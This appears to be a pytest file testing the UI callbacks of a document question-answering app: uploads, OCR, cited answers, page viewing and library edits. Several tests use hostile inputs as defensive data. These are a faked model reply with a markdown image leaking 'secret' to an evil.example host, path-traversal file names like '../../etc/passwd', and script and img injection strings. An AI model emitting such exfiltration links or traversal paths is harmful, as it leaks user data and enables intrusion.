"""The UI's callbacks, called as Gradio would call them, without a browser."""

import pytest
from langchain_core.language_models.fake_chat_models import FakeListChatModel

from app.render import answer_markdown
from app.service import AskDocs, safe_filename
from app.settings import Settings
from app.ui import Callbacks
from tests.files import render_pages, write_pdf, write_scanned_pdf


@pytest.fixture
def service(tmp_path, embedder):
    settings = Settings(data_dir=tmp_path / "data", chroma_url=None, llm_backend="none", top_k=3,
                        _env_file=None)
    llm = FakeListChatModel(responses=["Error E-104 means the two encoders of a joint disagree [1]. "
                                       "See ![x](https://evil.example/leak?q=secret)"] * 5)
    s = AskDocs(settings, llm=llm, embedder=embedder)
    yield s
    s.close()


@pytest.fixture
def callbacks(service):
    return Callbacks(service)


class Upload:
    """What Gradio hands an upload callback: a temp file path and the user's file name."""

    def __init__(self, path, orig_name):
        self.name, self.orig_name = str(path), orig_name


def _upload(callbacks, tmp_path, name="manual.pdf"):
    path = write_pdf(tmp_path / "gradio-temp-123.pdf")
    steps = list(callbacks.upload([Upload(path, name)]))
    return steps


def test_upload_reports_stages_and_final_status(callbacks, service, tmp_path):
    steps = _upload(callbacks, tmp_path)
    html_seen = " ".join(s[0] for s in steps)
    assert "embed" in html_seen or "chunk" in html_seen, "progress went through the stages"
    final_html, rows = steps[-1]
    assert "added: 3 pages" in final_html
    assert rows[0][0] == "manual.pdf" and rows[0][2] == 3
    assert (service.uploads / "manual.pdf").exists()
    assert service.search("E-104", 1, "bm25").results[0].chunk.doc_id == "manual.pdf", "searchable at once"


def test_upload_refuses_a_fake_pdf_and_keeps_going(callbacks, tmp_path):
    fake = tmp_path / "x.pdf"
    fake.write_text("not a pdf")
    good = write_pdf(tmp_path / "g.pdf")
    final_html, rows = list(callbacks.upload([Upload(fake, "fake.pdf"), Upload(good, "good.pdf")]))[-1]
    assert "failed: not a PDF" in final_html and "added" in final_html
    assert [r[0] for r in rows] == ["good.pdf"]


def test_chat_streams_cites_and_opens_the_page(callbacks, tmp_path):
    _upload(callbacks, tmp_path)
    steps = list(callbacks.respond("What does error E-104 mean?", [], [], 3, "hybrid", False))
    messages, status, sources, rewritten, choices, history, box, last = steps[-1]
    assert messages[-1]["role"] == "assistant" and "[[1]](#source-1)" in messages[-1]["content"]
    assert "evil.example" not in messages[-1]["content"]
    assert any("searching" in str(s[1]) for s in steps), "a visible 'searching…' state"
    assert 'id="source-1"' in sources and "manual.pdf" in sources and "<mark>" in sources
    assert "✓ cited, supported" in sources and "BM25 #" in sources
    assert history == [("What does error E-104 mean?", last["answer"])]
    first = last["sources"][0]
    assert first["page"] == 2
    image, context, label, viewer = callbacks.open_source(f"[1] {first['file']} p.{first['page']}", last)
    assert image["visible"] and image["value"].size[0] > 500 and "page 2 of 3" in label
    image, _, label, viewer = callbacks.show_page(viewer, +1)
    assert "page 3 of 3" in label
    _, _, label, _ = callbacks.show_page(viewer, +1)
    assert "page 3 of 3" in label, "stepping stops at the last page"


def test_follow_up_and_new_chat(callbacks, service, tmp_path):
    _upload(callbacks, tmp_path)
    service.answerer.llm = FakeListChatModel(responses=["The warranty lasts thirty-six months [1]."])
    history = [("What is the SK-220?", "A robotic arm [1].")]
    steps = list(callbacks.respond("and its warranty?", [], history, 3, "hybrid", False))
    assert steps[-1][3] == "Searched for: *and its warranty? (SK-220)*", "the previous question's subject is kept"
    assert "thirty-six months" in steps[-1][0][-1]["content"]
    cleared = callbacks.new_chat()
    assert cleared[0] == [] and cleared[1] == [] and cleared[6] is None


def test_non_pdf_sources_show_surrounding_text(callbacks, service, tmp_path):
    notes = tmp_path / "n.md"
    notes.write_text("# Notes\n\n" + "Filler sentence. " * 50 + "The <b>secret</b> code is 7. " + "More. " * 50)
    list(callbacks.upload([Upload(notes, "notes.md")]))
    service.answerer.llm = FakeListChatModel(responses=["The code is 7 [1]."])
    last = list(callbacks.respond("what is the secret code", [], [], 3, "bm25", False))[-1][-1]
    image, context, label, _ = callbacks.open_source(f"[1] notes.md p.1", last)
    assert not image["visible"] and context["visible"]
    assert "<mark>" in context["value"] and "&lt;b&gt;secret&lt;/b&gt;" in context["value"]


def test_scans_and_images_are_ocrd_and_their_pages_open_marked(callbacks, service, tmp_path):
    scan = write_scanned_pdf(tmp_path / "gradio-scan.pdf")
    render_pages(["Delta note. The charging dock of the SK-220 accepts a 48 volt supply."])[0].save(
        tmp_path / "gradio-photo.png")
    steps = list(callbacks.upload([Upload(scan, "scan.pdf"), Upload(tmp_path / "gradio-photo.png", "photo.png")]))
    assert any("OCR of scanned pages" in s[0] for s in steps), "OCR progress is shown while it runs"
    final_html, rows = steps[-1]
    assert "OCR on pages 1-3" in final_html and "OCR on page 1" in final_html
    assert {r[0]: r[4] for r in rows} == {"photo.png": "page 1", "scan.pdf": "pages 1-3"}
    service.answerer.llm = FakeListChatModel(responses=["Error E-104 means the encoders disagree [1]."])
    last = list(callbacks.respond("What does error E-104 mean?", [], [], 3, "bm25", False))[-1][-1]
    first = last["sources"][0]
    assert (first["file"], first["page"]) == ("scan.pdf", 2)
    image, context, label, _ = callbacks.open_source(f"[1] scan.pdf p.2", last)
    assert image["visible"] and "page 2 of 3" in label and "not located" not in label
    service.answerer.llm = FakeListChatModel(responses=["A 48 volt supply [1]."])
    last = list(callbacks.respond("Which supply does the charging dock accept?", [], [], 3, "bm25", False))[-1][-1]
    number = next(s["number"] for s in last["sources"] if s["file"] == "photo.png")
    image, context, label, _ = callbacks.open_source(f"[{number}] photo.png p.1", last)
    assert image["visible"] and "photo.png · page 1 of 1" in label and "not located" not in label


def test_library_delete_and_reindex(callbacks, tmp_path):
    _upload(callbacks, tmp_path)
    message, rows, _ = callbacks.reindex("manual.pdf")
    assert "Re-indexed manual.pdf: 3 pages" in message and rows[0][0] == "manual.pdf"
    message, rows, _ = callbacks.delete("manual.pdf")
    assert message == "Deleted manual.pdf." and rows == []
    assert "Could not delete" in callbacks.delete("manual.pdf")[0]


def test_library_shows_and_corrects_what_a_document_is(callbacks, tmp_path):
    _upload(callbacks, tmp_path)
    organisation, period, doc_type, title = callbacks.profile_fields("manual.pdf")
    assert title["value"], "a profile was read at ingest"
    message, rows, _ = callbacks.save_profile("manual.pdf", "Harbor Lane Robotics", "2026", "manual", "SK-220 manual")
    assert "Saved the profile of manual.pdf" in message
    assert rows[0][1] == "Harbor Lane Robotics · manual · 2026"
    assert [u["value"] for u in callbacks.profile_fields("manual.pdf")] == [
        "Harbor Lane Robotics", "2026", "manual", "SK-220 manual"]
    assert callbacks.save_profile(None, "x", "", "", "")[0] == "Choose a document first."


def test_names_cannot_escape_the_upload_folder():
    assert safe_filename("../../etc/passwd") == "passwd"
    assert safe_filename("..\\..\\x.pdf") == "x.pdf"
    assert safe_filename(".hidden.pdf") == "hidden.pdf"
    assert safe_filename("a b<script>.pdf") == "a b_script_.pdf"


def test_answer_markdown_links_markers_and_defuses_links():
    md = answer_markdown("Yes [1][2] and [9]. <img src=x> [click](https://evil.example/a)", 2)
    assert "[[1]](#source-1)[[2]](#source-2)" in md and "[9]" not in md
    assert "<img" not in md and "](https://evil" not in md
